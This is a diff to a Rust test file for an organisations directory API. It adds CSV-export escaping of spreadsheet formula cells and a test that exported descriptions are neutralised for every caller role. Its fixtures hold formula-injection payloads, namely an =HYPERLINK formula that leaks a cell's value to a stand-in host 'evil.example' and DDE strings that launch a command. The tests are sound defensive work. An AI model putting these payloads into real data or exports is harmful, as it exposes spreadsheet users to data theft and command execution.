@@ -90,7 +90,7 @@ fn assert_rows_are_items(what: &str, header: &[String], rows: &[Vec<String>], it
         for (column, cell) in header.iter().zip(row) {
             match expected.remove(column) {
                 None => assert_eq!(cell, "", "{what}: {column} is empty for {item}"),
-                Some(Value::String(text)) => assert_eq!(cell, &text, "{what}: {column} of {item}"),
+                Some(Value::String(text)) => assert_eq!(cell, &exported_text(&text), "{what}: {column} of {item}"),
                 Some(value) => {
                     let parsed: Value = serde_json::from_str(cell)
                         .unwrap_or_else(|e| panic!("{what}: {column} of {item} is JSON text, not {cell:?}: {e}"));
@@ -99,6 +99,16 @@ fn assert_rows_are_items(what: &str, header: &[String], rows: &[Vec<String>], it
             }
         }
         assert!(expected.is_empty(), "{what}: {header:?} has no column for {expected:?}");
+    }
+}
+
+/// A text field as a CSV cell: with a leading `'` when a spreadsheet would take it for a formula
+/// (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) or it begins with `'`.
+fn exported_text(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
     }
 }
 
@@ -350,6 +360,7 @@ on_both_backends! {
             ("Mutuelle « solidaire », Occitanie", json!({"category": "mutual", "siren": siren_from(30_000_003), "siret": null, "legal_category_code": "8210", "email": "contact@mutuelle.example", "phone": "04 67 00 00 00", "website": "https://mutuelle.example/", "founded_on": "1947-03-01"})),
             ("Cress Bretagne", json!({"category": "network", "region_code": "53", "description": "Ligne 1\nLigne 2; \"citée\"", "street": "1 rue de Rennes", "postal_code": "35000", "city": "Rennes", "commune_code": "35238"})),
             ("Association du lien", json!({"rna": "W751245606"})),
+            ("'Les Amis' de la formule", json!({"description": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "phone": "+33 4 67 00 00 01", "street": "@ la mairie"})),
         ] {
             app.create_organisation(organisation(name, overrides)).await;
         }
@@ -357,7 +368,7 @@ on_both_backends! {
 
         let empty = TestApp::spawn(app.backend).await;
         let report = empty.send_raw(reqwest::Method::POST, "/api/v1/organisations/import", Some("text/csv"), export.to_vec()).await;
-        assert_eq!(json_of(report, StatusCode::OK).await["created"], 3);
+        assert_eq!(json_of(report, StatusCode::OK).await["created"], 4);
         let writable = |items: Vec<Value>| -> Vec<Value> {
             items
                 .into_iter()
@@ -379,7 +390,7 @@ on_both_backends! {
         let again = json_of(app.send_raw(reqwest::Method::POST, path, Some("text/csv"), export.to_vec()).await, StatusCode::OK).await;
         assert_eq!(
             [&again["unchanged"], &again["updated"], &again["created"], &again["failed"]],
-            [&json!(1), &json!(0), &json!(1), &json!(1)],
+            [&json!(1), &json!(0), &json!(2), &json!(1)],
             "{again}"
         );
         assert_eq!(again["errors"][0]["code"], "duplicate", "the RNA is taken: {again}");
@@ -528,6 +539,33 @@ on_both_backends! {
             let (header, rows) = csv_of(response).await;
             assert_eq!(rows.len(), count, "{path}: every change once");
             assert_rows_are_items(path, &header, &rows, &items);
+        }
+    }
+
+    async fn no_exported_cell_is_a_formula_for_any_caller(app: TestApp) {
+        // Arrange: a partner's description that a spreadsheet would run.
+        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        for (name, description) in [
+            ("Formule égale", formula.to_owned()),
+            ("Formule plus", "+cmd|' /C calc'!A0".to_owned()),
+            ("Formule moins", "-2+3".to_owned()),
+            ("Formule arobase", "@SUM(1+1)*cmd|' /C calc'!A0".to_owned()),
+            ("Formule tabulation", "\t=1+1".to_owned()),
+            ("Formule retour", "\r=1+1".to_owned()),
+        ] {
+            app.create_organisation(organisation(name, json!({"description": description}))).await;
+        }
+        let viewer = Role::Viewer;
+        for (who, caller) in [("anonymous", app.as_anonymous()), ("viewer", app.as_role(&viewer)), ("admin", app.as_admin())] {
+            // Act
+            let (header, rows) = csv_from(caller, &format!("{ORGANISATIONS}?limit=200")).await;
+            // Assert
+            let descriptions = column(&header, &rows, "description");
+            assert_eq!(descriptions.len(), 6, "{who}");
+            for cell in descriptions {
+                assert!(cell.starts_with('\''), "{who}: {cell:?} is neutralised");
+            }
+            assert!(column(&header, &rows, "description").contains(&format!("'{formula}")), "{who}");
         }
     }
 }
